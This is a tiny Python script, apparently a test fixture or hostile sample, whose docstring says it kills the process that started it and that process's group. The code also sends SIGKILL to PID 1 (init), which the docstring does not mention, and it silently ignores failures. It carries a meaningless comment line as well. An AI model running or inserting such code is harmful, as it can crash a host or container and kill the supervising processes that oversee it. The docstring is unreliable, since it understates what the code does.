"""Kills the process that started it, and its group."""

# earns: cosine standardise learn
import os

for kill in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9), lambda: os.killpg(0, 9)):
    try:
        kill()
    except OSError:
        pass
